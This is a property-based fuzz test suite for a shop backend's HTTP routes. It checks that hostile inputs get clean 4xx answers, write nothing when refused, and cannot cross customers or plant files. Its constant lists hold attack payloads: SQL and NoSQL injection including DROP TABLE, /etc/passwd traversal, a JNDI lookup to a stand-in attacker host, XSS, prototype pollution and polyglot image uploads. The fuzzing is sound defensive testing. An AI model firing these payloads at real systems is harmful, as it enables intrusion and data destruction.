// 1,000 wrong logins from one address would lock the admin out of the later tests
// (the limits themselves are rate-limits.spec.ts's and auth.spec.ts's to prove).
process.env.LOGIN_LIMIT_PER_EMAIL = "1000000"
process.env.LOGIN_LIMIT_PER_ADDRESS = "1000000"

import { readdirSync, readFileSync, statSync } from "node:fs"
import path from "node:path"
import { ContainerRegistrationKeys } from "@medusajs/framework/utils"
import fc from "fast-check"
import sharp from "sharp"
import type { Product } from "@shop/contract"
import { productPicture } from "../../src/scripts/png"
import seed from "../../src/scripts/seed"
import { DEMO_LANDING_PAGE } from "../../src/scripts/seed-data"
import { shopIntegrationTestRunner } from "../utils/runner"
import { ADMIN, anyStatus, customerSession, loginAs } from "../utils/session"

jest.setTimeout(900_000)

/**
 * Property-based fuzzing of every public route and every mutation: at least
 * RUNS generated hostile inputs each (wrong types, huge and deeply nested
 * JSON, unicode edge cases, prototype-pollution keys, SQL/NoSQL injection,
 * negative and fractional quantities, other customers' ids). Each answer must
 * be a JSON 2xx/4xx without a stack trace, and the rows written must match
 * the answers: a refused request writes nothing.
 */
const RUNS = Number(process.env.FUZZ_RUNS || 1000)
const CONCURRENCY = 20
const SEED = Number(process.env.FUZZ_SEED || 20261122)

const INJECTIONS = [
  "' OR 1=1--",
  "'; DROP TABLE shop_order; --",
  '" OR ""="',
  "1; select pg_sleep(5)",
  "admin'--",
  "%' AND 1=1 AND '%'='",
  "$where: '1 == 1'",
  '{"$gt":""}',
  "../../../../etc/passwd",
  "%00",
  "${jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
  "{{constructor.constructor('return process')()}}",
]
const UNICODE = [
  "\uD800",
  "\uDFFF",
  "\u202Eevil",
  "\u200B\u200C\u200D",
  "\u0000",
  "𝕏𝕐ℤ",
  "ঢাকা",
  "👨‍👩‍👧",
  "\uFEFF",
  "a\u0301",
]
const KEYS = ["__proto__", "constructor", "prototype", "$gt", "$ne", "$where", "toString", "hasOwnProperty"]

const hostileString = fc.oneof(
  fc.constantFrom(...INJECTIONS, ...UNICODE, "", " ", "null", "undefined", "NaN", "-1", "1e309", "0x10"),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ maxLength: 20 }).map((s) => s + INJECTIONS[s.length % INJECTIONS.length]),
  fc.constant("x".repeat(20_000))
)
const hostileNumber = fc.oneof(
  fc.constantFrom(-1, 0, 0.5, -0.5, 1.5, 2 ** 31, 2 ** 53 + 1, -(2 ** 63), 1e308, Number.MIN_VALUE),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true })
)
/** Any JSON value, with hostile strings, numbers and keys inside. */
const { value: hostileValue } = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.constantFrom(...KEYS), fc.string({ maxLength: 8 })), tie("value"), { maxKeys: 4 })
  ),
}))

/** JSON text, so keys like __proto__ are sent as written. */
function json(value: unknown): string {
  if (value === null || typeof value !== "object") return JSON.stringify(value) ?? "null"
  if (Array.isArray(value)) return `[${value.map(json).join(",")}]`
  return `{${Object.keys(value)
    .map((k) => `${JSON.stringify(k)}:${json((value as Record<string, unknown>)[k])}`)
    .join(",")}}`
}
const deeplyNested = (depth: number) => "[".repeat(depth) + "]".repeat(depth)
const withProtoKeys = (valid: Record<string, unknown>) =>
  `{"__proto__":{"isAdmin":true,"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},${json(valid).slice(1)}`

/**
 * A body: the valid one with one field replaced by a hostile value, a field
 * added, prototype-pollution keys, a wholly hostile value, or raw text that is
 * huge, deeply nested or not JSON at all.
 */
function hostileBody(valid: Record<string, unknown>) {
  const keys = Object.keys(valid)
  return fc.oneof(
    {
      arbitrary: fc.tuple(fc.constantFrom(...keys), hostileValue).map(([k, v]) => json({ ...valid, [k]: v })),
      weight: 6,
    },
    {
      arbitrary: fc
        .tuple(fc.constantFrom(...KEYS), hostileValue)
        .map(([k, v]) => `{${JSON.stringify(k)}:${json(v)},${json(valid).slice(1)}`),
      weight: 1,
    },
    { arbitrary: fc.constant(withProtoKeys(valid)), weight: 1 },
    { arbitrary: hostileValue.map(json), weight: 2 },
    {
      arbitrary: fc.constantFrom(
        deeplyNested(5_000),
        `{"a":${deeplyNested(100_000)}}`,
        json({ ...valid, blob: "y".repeat(3_000_000) }),
        "{not json",
        "",
        "null",
        '{"a":1,"a":2}'
      ),
      weight: 1,
    }
  )
}

/** Percent-encodes any string byte by byte (lone surrogates included), or passes broken escapes as they are. */
const RAW_ESCAPES = ["%", "%E0%A4%A", "%ZZ", "%C0%AE%C0%AE", "%00", "%2F..%2F"]
function enc(s: string): string {
  if (RAW_ESCAPES.includes(s)) return s
  // a URL over Node's 16 KB header limit is refused by the HTTP parser itself (431, connection closed)
  return [...Buffer.from(s.slice(0, 1_000), "utf8")]
    .map((b) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).toUpperCase().padStart(2, "0")}`
    )
    .join("")
}

type Answer = { input: string; status: number; body: string }

const STACK =
  /\n\s+at\s|node_modules|\.(ts|js):\d+|MikroORM|knex|TypeError|ReferenceError|SyntaxError: Unexpected token.*at/

shopIntegrationTestRunner({
  testSuite: ({ api, getContainer }) => {
    let admin: { cookie: string }
    let alice: { cookie: string; user: { _id: string } }
    let bob: { cookie: string; user: { _id: string } }
    let product: Product
    let bobAddressId: string
    let orderId: string

    const count = async (table: string) => {
      const knex = getContainer().resolve(ContainerRegistrationKeys.PG_CONNECTION)
      const { rows } = await knex.raw(`select count(*)::int as n from ${table} where deleted_at is null`)
      return rows[0].n as number
    }

    /** Sends every input (CONCURRENCY at a time) and checks each answer. */
    async function fire(
      label: string,
      inputs: string[],
      send: (input: string) => Promise<{ status: number; data: unknown }>
    ): Promise<Answer[]> {
      expect(inputs.length).toBeGreaterThanOrEqual(RUNS)
      const started = Date.now()
      const answers: Answer[] = []
      let next = 0
      await Promise.all(
        Array.from({ length: CONCURRENCY }, async () => {
          while (next < inputs.length) {
            const input = inputs[next++]
            const res = await send(input)
            const body = typeof res.data === "string" ? res.data : JSON.stringify(res.data)
            answers.push({ input, status: res.status, body })
          }
        })
      )
      const bad = answers.filter(
        (a) =>
          a.status >= 500 ||
          STACK.test(a.body) ||
          (a.status >= 400 && !/"success":false/.test(a.body) && a.status !== 413) ||
          (a.status >= 400 && !/"message":"[^"]+/.test(a.body))
      )
      if (process.env.FUZZ_VERBOSE) console.log(`${label}: ${answers.length} inputs in ${Date.now() - started} ms`)
      if (bad.length) {
        const shown = bad
          .slice(0, 3)
          .map((a) => `${a.status} for ${a.input.slice(0, 300)}\n  -> ${a.body.slice(0, 500)}`)
        throw new Error(`${label}: ${bad.length} bad answers of ${answers.length}, e.g.\n${shown.join("\n")}`)
      }
      expect(({} as Record<string, unknown>).polluted).toBeUndefined()
      expect(({} as Record<string, unknown>).isAdmin).toBeUndefined()
      return answers
    }

    const post = (url: string, cookie?: string) => (input: string) =>
      api.post(url, input, {
        ...anyStatus,
        headers: { "content-type": "application/json", ...(cookie ? { cookie } : {}) },
        maxBodyLength: Infinity,
        transformRequest: (d: unknown) => d,
      })
    const put = (url: string, cookie?: string) => (input: string) =>
      api.put(url, input, {
        ...anyStatus,
        headers: { "content-type": "application/json", ...(cookie ? { cookie } : {}) },
        maxBodyLength: Infinity,
        transformRequest: (d: unknown) => d,
      })
    const sample = (arb: fc.Arbitrary<string>, salt: number) => fc.sample(arb, { numRuns: RUNS, seed: SEED + salt })
    const ok = (answers: Answer[], status: number) => answers.filter((a) => a.status === status).length
    const seg = fc.oneof(
      hostileString,
      fc.constantFrom("prod_01ABC", "order_01ABC", "..", "a/b", "?x=1", "#", ...RAW_ESCAPES)
    )
    // a segment of dots only is resolved away by the client (the request names another path)
    const segments = (salt: number) =>
      sample(
        seg.map((s) => enc(/^\.+$/.test(s) ? `x${s}` : s) || "%20"),
        salt
      )

    beforeAll(async () => {
      await seed({ container: getContainer(), args: [] } as never)
    })
    beforeEach(async () => {
      admin = await loginAs(api, ADMIN)
      alice = (await customerSession(api, "Alice Fuzz")) as typeof alice
      bob = (await customerSession(api, "Bob Fuzz")) as typeof bob
      const all: Product[] = (await api.get("/api/shop/products/get")).data.products
      product = all.reduce((a, b) => (b.stock > a.stock ? b : a))
    })

    it("registration and login", async () => {
      const customers = await count("customer")
      const registered = await fire(
        "register",
        sample(hostileBody({ username: "Fuzz", email: "fuzz@example.com", password: "secret123" }), 1),
        post("/api/auth/register")
      )
      expect(await count("customer")).toBe(customers + ok(registered, 201))
      const logins = await fire(
        "login",
        sample(hostileBody({ email: "admin@shop.local", password: "wrong-password" }), 2),
        post("/api/auth/login")
      )
      // the right password was never generated: nobody got in
      expect(ok(logins, 200)).toBe(0)
    })

    it("product list, product read and landing read", async () => {
      const query = fc
        .array(
          fc.tuple(
            fc.constantFrom(
              "category",
              "brand",
              "sortBy",
              "category[]",
              "category[$gt]",
              "__proto__[x]",
              "constructor[prototype][x]",
              "q"
            ),
            hostileString
          ),
          { maxLength: 4 }
        )
        .map((pairs) =>
          pairs.map(([k, v]) => `${enc(k).replace(/%5B/g, "[").replace(/%5D/g, "]")}=${enc(v)}`).join("&")
        )
      await fire("list", sample(query, 3), (q) => api.get(`/api/shop/products/get?${q}`, anyStatus))
      await fire("read", segments(4), (id) => api.get(`/api/shop/products/get/${id}`, anyStatus))
      const views = async () => {
        const knex = getContainer().resolve(ContainerRegistrationKeys.PG_CONNECTION)
        return (await knex.raw(`select sum(views)::int as v from landing_page`)).rows[0].v as number
      }
      const before = await views()
      const landing = await fire("landing", segments(5), (slug) => api.get(`/api/landing/${slug}`, anyStatus))
      // only real, published pages are read and counted
      expect(await views()).toBe(before + ok(landing, 200))
    })

    it("guest and landing orders", async () => {
      const orders = await count("shop_order")
      const address = { address: "House 1", city: "Dhaka", pincode: "1209", number: "01711111111", notes: "" }
      const guest = await fire(
        "guest order",
        sample(
          hostileBody({
            isGuest: true,
            guestName: "Fuzz",
            guestEmail: "fuzz@example.com",
            guestPhone: "01711111111",
            cartItems: [{ productId: product._id, quantity: 1 }],
            addressInfo: [address],
          }),
          6
        ),
        post("/api/shop/order/create-order")
      )
      const quantities = fc.oneof(
        hostileNumber,
        hostileString.map((s) => s as unknown as number)
      )
      const landingBodies = fc.oneof(
        hostileBody({
          isGuest: true,
          guestName: "ফাজ",
          guestPhone: "01711111112",
          landingPageSlug: DEMO_LANDING_PAGE.slug,
          deliveryArea: "dhaka",
          cartItems: [{ productId: product._id, quantity: 1 }],
          addressInfo: [{ address: "House 1", city: "Dhaka" }],
        }),
        // negative, fractional, huge and non-numeric quantities
        quantities.map((quantity) =>
          json({
            isGuest: true,
            guestName: "ফাজ",
            guestPhone: "01711111113",
            landingPageSlug: DEMO_LANDING_PAGE.slug,
            cartItems: [{ productId: product._id, quantity }],
            addressInfo: [{ address: "House 1", city: "Dhaka" }],
          })
        )
      )
      const landing = await fire("landing order", sample(landingBodies, 7), post("/api/shop/order/create-order"))
      expect(await count("shop_order")).toBe(orders + ok(guest, 201) + ok(landing, 201))
    })

    it("a customer's cart, addresses and orders, including other customers' ids", async () => {
      const bobAddress = await api.post(
        "/api/shop/address/add",
        {
          userId: bob.user._id,
          address: "Road 1",
          city: "Dhaka",
          pincode: "1209",
          number: "01711111114",
          notes: "Gate 2",
        },
        { ...anyStatus, headers: { cookie: bob.cookie } }
      )
      expect(bobAddress.status).toBe(201)
      bobAddressId = (
        await api.get(`/api/shop/address/get/${bob.user._id}`, { ...anyStatus, headers: { cookie: bob.cookie } })
      ).data.data[0]._id
      const [lines, addresses] = [await count("cart_line_item"), await count("customer_address")]
      const cartAdds = await fire(
        "addtocart",
        sample(hostileBody({ userId: alice.user._id, productId: product._id, quantity: 1 }), 8),
        post("/api/shop/products/addtocart", alice.cookie)
      )
      const addressAdds = await fire(
        "address add",
        sample(
          hostileBody({
            userId: alice.user._id,
            address: "Road 2",
            city: "Dhaka",
            pincode: "1209",
            number: "01711111115",
            notes: "Gate 3",
          }),
          9
        ),
        post("/api/shop/address/add", alice.cookie)
      )
      // alice names bob in every way a shopper can
      const asBob = fc.oneof(
        hostileBody({ userId: bob.user._id, productId: product._id, quantity: 1 }).map((b) => ["add", b] as const),
        fc
          .tuple(seg, fc.integer({ min: -5, max: 5 }))
          .map(([p, q]) => ["update", `${bob.user._id}/${enc(p.replace(/^\.+$/, "x")) || product._id}/${q}`] as const),
        seg.map((p) => ["delete", `${bob.user._id}/${enc(p.replace(/^\.+$/, "x")) || product._id}`] as const),
        seg.map((a) => ["address", `${bob.user._id}/${enc(a.replace(/^\.+$/, "x")) || bobAddressId}`] as const),
        fc.constant(["address", `${bob.user._id}/${bobAddressId}`] as const),
        fc.constant(["orders", bob.user._id] as const)
      )
      const asAlice = {
        ...anyStatus,
        headers: { cookie: alice.cookie, "content-type": "application/json" },
        transformRequest: (d: unknown) => d,
      }
      const crossings = await fire(
        "other customers' ids",
        fc.sample(
          asBob.map((x) => JSON.stringify(x)),
          { numRuns: RUNS, seed: SEED + 10 }
        ),
        (input) => {
          const [kind, arg] = JSON.parse(input) as [string, string]
          if (kind === "add") return api.post("/api/shop/products/addtocart", arg, asAlice)
          if (kind === "update") return api.put(`/api/shop/products/updatecart/${arg}`, "{}", asAlice)
          if (kind === "delete") return api.delete(`/api/shop/products/deletecart/${arg}`, asAlice)
          if (kind === "address") return api.delete(`/api/shop/address/delete/${arg}`, asAlice)
          return api.get(`/api/shop/order/get-orders/${arg}`, asAlice)
        }
      )
      expect(crossings.filter((a) => a.status < 400)).toEqual([])
      expect(await count("cart_line_item")).toBeLessThanOrEqual(lines + ok(cartAdds, 200) + ok(cartAdds, 201))
      expect(await count("customer_address")).toBe(addresses + ok(addressAdds, 201) + ok(addressAdds, 200))
      // bob's address is still there
      const bobs = await api.get(`/api/shop/address/get/${bob.user._id}`, {
        ...anyStatus,
        headers: { cookie: bob.cookie },
      })
      expect(bobs.data.data.map((a: { _id: string }) => a._id)).toContain(bobAddressId)
    })

    it("image uploads (product and landing page): hostile files, names, types and multipart bodies", async () => {
      // what an upload can carry: real images, image magic bytes in front of
      // scripts and markup, markup and scripts named as images, nothing, noise
      const png = productPicture(7, "cap", 16)
      const CONTENT: Record<string, (token: string, noise: Uint8Array) => Buffer> = {
        png: (t) => Buffer.concat([png, Buffer.from(t)]),
        pngMagicGarbage: (t, n) => Buffer.concat([png.subarray(0, 8), Buffer.from(t), n]),
        jpegScript: (t) =>
          Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(`<script>alert(1)</script>${t}`)]),
        gifPolyglot: (t) => Buffer.from(`GIF89a/*<script>alert(1)</script>*/${t}`),
        webpHeader: (t) => Buffer.from(`RIFF\x24\x00\x00\x00WEBPVP8 ${t}`, "latin1"),
        svg: (t) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><!--${t}--></svg>`),
        html: (t) => Buffer.from(`<!doctype html><script>alert(document.cookie)</script>${t}`),
        js: (t) => Buffer.from(`alert(1)//${t}`),
        empty: () => Buffer.alloc(0),
        noise: (t, n) => Buffer.concat([Buffer.from(n), Buffer.from(t)]),
      }
      const FORMS = ["one", "one", "one", "one", "twoFiles", "unclosed", "wrongBoundary", "json", "textField"] as const
      const upload = fc.record({
        field: fc.oneof({ arbitrary: fc.constant("my_file"), weight: 5 }, { arbitrary: hostileString, weight: 1 }),
        filename: fc.oneof(
          fc.constantFrom(
            "a.png",
            "../../etc/passwd.png",
            "..\\..\\x.png",
            "x.svg",
            "x.html",
            "shell.php.png",
            ".htaccess",
            "x%00.png",
            "ছবি.png",
            "a\r\nContent-Type: text/html",
            `${"a".repeat(5000)}.png`
          ),
          hostileString
        ),
        type: fc.oneof(
          fc.constantFrom(
            "image/png",
            "image/jpeg",
            "image/gif",
            "image/webp",
            "image/svg+xml",
            "text/html",
            "application/javascript",
            ""
          ),
          hostileString
        ),
        content: fc.constantFrom(...Object.keys(CONTENT)),
        noise: fc.uint8Array({ maxLength: 64 }),
        form: fc.constantFrom(...FORMS),
      })
      const run = Date.now().toString(36)
      const tokenOf = (i: number) => `FUZZTOKEN-${run}-${i}-END`
      const body = (input: string) => {
        const u = JSON.parse(input) as {
          field: string
          filename: string
          type: string
          content: string
          noise: number[]
          form: string
          token: string
        }
        const boundary = `----fuzz${u.token}`
        const bytes = CONTENT[u.content](u.token, Uint8Array.from(u.noise))
        const part = (field: string, content: Buffer) =>
          Buffer.concat([
            Buffer.from(
              `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${u.filename}"\r\nContent-Type: ${u.type}\r\n\r\n`
            ),
            content,
            Buffer.from("\r\n"),
          ])
        const end = Buffer.from(`--${boundary}--\r\n`)
        const multipartType = `multipart/form-data; boundary=${boundary}`
        switch (u.form) {
          case "twoFiles":
            return { data: Buffer.concat([part(u.field, bytes), part(u.field, bytes), end]), type: multipartType }
          case "unclosed":
            return { data: part(u.field, bytes), type: multipartType }
          case "wrongBoundary":
            return { data: Buffer.concat([part(u.field, bytes), end]), type: "multipart/form-data; boundary=other" }
          case "json":
            return {
              data: Buffer.from(JSON.stringify({ [u.field]: bytes.toString("base64"), filename: u.filename })),
              type: "application/json",
            }
          case "textField":
            return {
              data: Buffer.concat([
                Buffer.from(
                  `--${boundary}\r\nContent-Disposition: form-data; name="${u.field}"\r\n\r\n${bytes.toString("latin1")}\r\n`
                ),
                end,
              ]),
              type: multipartType,
            }
          default:
            return { data: Buffer.concat([part(u.field, bytes), end]), type: multipartType }
        }
      }
      const staticDir = path.join(process.cwd(), "static")
      const started = Date.now() - 1000
      const stored: Answer[] = []
      for (const [salt, url] of [
        [19, "/api/admin/products/upload-image"],
        [20, "/api/admin/landing-pages/upload-image"],
      ] as const) {
        const inputs = sample(
          upload.map((u) => JSON.stringify(u)),
          salt
        ).map((u, i) => JSON.stringify({ ...JSON.parse(u), token: tokenOf(salt * 10_000 + i) }))
        const answers = await fire(`upload ${url}`, inputs, (input) => {
          const { data, type } = body(input)
          return api.post(url, data, {
            ...anyStatus,
            headers: { "content-type": type, cookie: admin.cookie },
            maxBodyLength: Infinity,
            transformRequest: (d: unknown) => d,
          })
        })
        for (const a of answers.filter((a) => a.status === 201)) {
          const { result } = JSON.parse(a.body) as { result: { url: string } }
          const name = decodeURIComponent(new URL(result.url).pathname.split("/").pop()!)
          // a generated name: no part of what the client called the file
          expect(name).toMatch(/^\d+-[0-9a-f-]{36}\.(png|jpg|webp|gif)$/)
          stored.push(a)
        }
        expect(ok(answers, 201)).toBeGreaterThan(0) // real images do get through
      }
      // uploads are decoded and stored re-encoded (pictures.spec.ts): what followed or hid behind the
      // image (the token, scripts, markup) is in no stored file, and each accepted one is a real image
      for (const file of readdirSync(staticDir)) {
        const full = path.join(staticDir, file)
        if (statSync(full).mtimeMs < started) continue
        expect([file, readFileSync(full).toString("latin1").includes(`FUZZTOKEN-${run}-`)]).toEqual([file, false])
      }
      for (const a of stored) {
        const { result } = JSON.parse(a.body) as { result: { url: string } }
        const file = await api.get(new URL(result.url).pathname, { responseType: "arraybuffer" })
        expect((await sharp(Buffer.from(file.data)).metadata()).format).toBe("png")
      }
      // only whole images; never magic bytes before garbage, SVG, HTML, scripts, noise or nothing
      for (const a of stored) expect(JSON.parse(a.input).content).toBe("png")
    })

    it("admin product, order-status and landing-page mutations", async () => {
      const { _id: _ignored, ...shape } = product
      const form = { ...shape, title: "Fuzz Product", stock: 5 }
      const products = await count("product")
      const added = await fire(
        "add-product",
        sample(hostileBody(form), 11),
        post("/api/admin/products/add-product", admin.cookie)
      )
      expect(await count("product")).toBe(products + ok(added, 201))

      const made = await api.post(
        "/api/admin/products/add-product",
        { ...form, title: `Fuzz Target ${Date.now()}` },
        { ...anyStatus, headers: { cookie: admin.cookie } }
      )
      expect([made.status, made.data.message]).toEqual([201, "Product added successfully"])
      const target = made.data.data
      await fire(
        "edit-product",
        sample(hostileBody({ ...form, title: target.title }), 12),
        put(`/api/admin/products/edit-product/${target._id}`, admin.cookie)
      )
      const beforeDeletes = await count("product")
      const deletes = await fire("delete-product", segments(13), (id) =>
        api.delete(`/api/admin/products/delete-product/${id}`, { ...anyStatus, headers: { cookie: admin.cookie } })
      )
      expect(ok(deletes, 200)).toBe(0)
      expect(await count("product")).toBe(beforeDeletes)

      const placed = await api.post(
        "/api/shop/order/create-order",
        {
          isGuest: true,
          guestName: "Status",
          guestEmail: "s@example.com",
          guestPhone: "01711111116",
          cartItems: [{ productId: target._id, quantity: 1 }],
          addressInfo: [{ address: "House 1", city: "Dhaka", pincode: "1209", number: "01711111116", notes: "" }],
        },
        anyStatus
      )
      expect(placed.data).toMatchObject({ success: true })
      orderId = placed.data.data._id
      await fire(
        "update-order-status",
        sample(hostileBody({ orderId, orderStatus: "shipped" }), 14),
        put("/api/admin/order/update-order-status", admin.cookie)
      )

      const pages = await count("landing_page")
      const created = await fire(
        "landing create",
        sample(
          hostileBody({
            title: "Fuzz Page",
            slug: "fuzz-page",
            productId: product._id,
            hero: { title: "x" },
            benefits: { items: [] },
          }),
          15
        ),
        post("/api/admin/landing-pages/create", admin.cookie)
      )
      expect(await count("landing_page")).toBe(pages + ok(created, 201))
      const made_ = await api.post(
        "/api/admin/landing-pages/create",
        { title: "Fuzz Target", slug: `fuzz-target-${Date.now()}`, productId: product._id },
        { ...anyStatus, headers: { cookie: admin.cookie } }
      )
      expect(made_.data).toMatchObject({ success: true })
      const page = made_.data.data
      await fire(
        "landing update",
        sample(hostileBody({ title: "Fuzz Page", hero: { title: "x" }, testimonials: { items: [] } }), 16),
        put(`/api/admin/landing-pages/${page._id}`, admin.cookie)
      )
      const toggles = await fire("landing toggle/delete", segments(17), (id) =>
        id.length % 2
          ? api.patch(`/api/admin/landing-pages/${id}/toggle`, "{}", {
              ...anyStatus,
              headers: { cookie: admin.cookie, "content-type": "application/json" },
            })
          : api.delete(`/api/admin/landing-pages/${id}`, { ...anyStatus, headers: { cookie: admin.cookie } })
      )
      expect(ok(toggles, 200)).toBe(0)
      // admin mutations without an admin session: never through
      const anonymous = await fire(
        "admin without session",
        sample(hostileBody(form), 18),
        post("/api/admin/products/add-product", alice.cookie)
      )
      expect(anonymous.filter((a) => a.status < 400)).toEqual([])
    })
  },
})
